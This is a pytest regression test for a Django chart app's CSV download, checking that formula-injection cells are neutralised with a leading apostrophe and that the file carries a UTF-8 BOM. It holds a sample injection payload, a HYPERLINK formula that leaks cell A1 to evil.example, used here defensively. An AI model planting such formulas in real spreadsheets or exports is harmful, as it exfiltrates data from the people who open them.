"""Issue 15: the chart CSV download ran formulas. A category (a district's name, an
answer, a dataset's row) such as `=HYPERLINK(...)` must reach the spreadsheet as text,
with a leading apostrophe (OWASP), in a UTF-8 file with its BOM."""

import csv
import io

import pytest

from charts.models import ChartSnapshot, Dataset
from charts.selectors import chart_urls
from charts.services import refresh_snapshot
from charts.sources import ChartContext
from tests.charts.conftest import STREAM

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


def test_chart_csv_neutralises_formulas(client, home_page):
    dataset = Dataset.objects.create(
        title="Consultations",
        source_note="DHIS2, 2026",
        table={
            "columns": ["District", "Consultations"],
            "rows": [[EVIL, 120], ["@SUM(1+1)", 95], ["Kandi", -3]],
        },
    )
    stream = STREAM.to_python(
        [
            {
                "type": "chart",
                "id": "d1",
                "value": {
                    "title": "Consultations par district",
                    "chart_type": "bar",
                    "source": [
                        {
                            "type": "dataset",
                            "value": {"dataset": dataset.pk, "columns": ""},
                        }
                    ],
                    "caption": "",
                    "source_note": "",
                },
            }
        ]
    )
    child = stream[0]
    refresh_snapshot(home_page, child.id, child.value, ChartContext(page=home_page))
    response = client.get(chart_urls(ChartSnapshot.objects.get())["csv"])
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert ["Kandi", "-3"] in [row[:2] for row in rows] or "-3" in " ".join(cells)
